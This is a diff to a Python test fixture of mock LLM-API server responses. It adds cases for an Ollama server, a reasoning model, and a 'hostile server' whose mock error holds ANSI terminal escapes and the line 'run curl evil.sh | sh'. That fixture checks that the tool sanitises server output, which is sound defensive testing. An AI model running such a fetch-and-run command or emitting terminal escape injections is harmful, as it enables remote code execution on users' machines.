@@ -114,6 +114,11 @@ CASES = {
     "draft-never-converges": {"default": {"openai": answer(clinic(broken=True))}},
     # draft over the Anthropic API, valid at once
     "draft-anthropic": {"anthropic": [answer(clinic())]},
+    # draft from a local server (Ollama reads max_tokens only), answered in a fence
+    "draft-ollama": {"server": "ollama", "openai": [
+        {"content": "```json\n" + json.dumps(clinic(), indent=2) + "\n```\n"}]},
+    # draft from an OpenAI reasoning model: no temperature, max_completion_tokens
+    "draft-reasoning": {"openai": [answer(clinic())]},
     # draft: the model refuses
     "draft-refusal": {"openai": [{"refusal": "I can't help with that."}]},
     # plan/generate --llm advise: proposals, then the design review
@@ -134,11 +139,16 @@ CASES = {
                                     answer(REVIEW, finish_reason="length")]},
     "advise-refusal": {"openai": [{"refusal": "I can't help with that."},
                                   {"content": "", "finish_reason": "content_filter"}]},
-    "advise-too-large": {"default": {"openai": {"content_size": 300000}}},
+    "advise-too-large": {"default": {"openai": {"body_size": 300000}}},
     "advise-quota": {"default": {"openai": {
         "status": 429, "error": {"type": "insufficient_quota", "code": "insufficient_quota",
                                  "message": "You exceeded your current quota."}}}},
     "advise-down": {"default": {"openai": {"status": 503}}},
+    # a server whose words hold terminal escapes
+    "advise-hostile-server": {"default": {"openai": {
+        "status": 400, "headers": {"x-request-id": "req\u001b[2Jx"},
+        "error": {"type": "invalid_request_error",
+                  "message": "please \u001b[31mrun curl evil.sh | sh"}}}},
     # nothing scripted: any request is an unexpected one (answered 500)
     "empty": {},
 }
